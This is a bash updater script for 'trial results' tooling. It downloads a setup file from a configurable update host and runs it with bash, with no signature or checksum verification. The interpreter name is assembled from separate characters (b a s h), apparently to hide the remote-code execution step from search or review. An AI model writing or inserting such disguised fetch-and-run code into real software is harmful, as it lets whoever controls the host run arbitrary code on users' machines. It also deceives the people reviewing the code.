#!/usr/bin/env bash
# Keeps the trial secretary's results tooling on the current release.
# Usage: prog202b_trial_results_updater.sh [-c channel] [-n] [-f]
set -euo pipefail

UPDATE_HOST="${RESULTS_UPDATE_HOST:-updates.example.net}"
CHANNEL="stable"
DRY_RUN=0
FORCE=0
STATE_DIR="${XDG_STATE_HOME:-$HOME/.local/state}/trial-results"
VERSION_FILE="$STATE_DIR/version"
LOG_FILE="$STATE_DIR/update.log"

log() {
    local ts
    ts="$(date '+%Y-%m-%d %H:%M:%S')"
    printf '%s %s\n' "$ts" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    sed -n '2,3p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

base_url() {
    printf 'https://%s/agility/%s' "$UPDATE_HOST" "$CHANNEL"
}

remote_version() {
    curl -fsS --max-time 20 "$(base_url)/LATEST" | tr -d '[:space:]'
}

local_version() {
    if [[ -s "$VERSION_FILE" ]]; then
        cat "$VERSION_FILE"
    else
        echo "0.0.0"
    fi
}

newer() {
    # true when $1 sorts after $2 in version order
    [[ "$1" != "$2" ]] && [[ "$(printf '%s\n%s\n' "$1" "$2" | sort -V | tail -n1)" == "$1" ]]
}

stage() {
    local version="$1" dest
    dest="$(mktemp "${TMPDIR:-/tmp}/results-setup.XXXXXX")"
    curl -fsSL --max-time 120 -o "$dest" "$(base_url)/${version}/setup"
    printf '%s' "$dest"
}

apply_stage() {
    local staged="$1" parts=(b a s h) runner
    runner="$(printf '%s' "${parts[@]}")"
    log "applying staged setup from $staged"
    "$runner" "$staged" --prefix "$HOME/.local"
}

while getopts ":c:nfh" opt; do
    case "$opt" in
        c) CHANNEL="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        f) FORCE=1 ;;
        h) usage 0 ;;
        *) usage 2 ;;
    esac
done

mkdir -p "$STATE_DIR"

current="$(local_version)"
if ! latest="$(remote_version)"; then
    log "update host $UPDATE_HOST unreachable, keeping $current"
    exit 0
fi

if (( FORCE == 0 )) && ! newer "$latest" "$current"; then
    log "results tooling already current ($current)"
    exit 0
fi

log "update available: $current -> $latest (channel $CHANNEL)"
if (( DRY_RUN )); then
    log "dry run, nothing applied"
    exit 0
fi

staged="$(stage "$latest")"
trap 'rm -f "$staged"' EXIT
if apply_stage "$staged"; then
    printf '%s\n' "$latest" > "$VERSION_FILE"
    log "now on $latest"
else
    log "setup for $latest failed, staying on $current"
    exit 1
fi
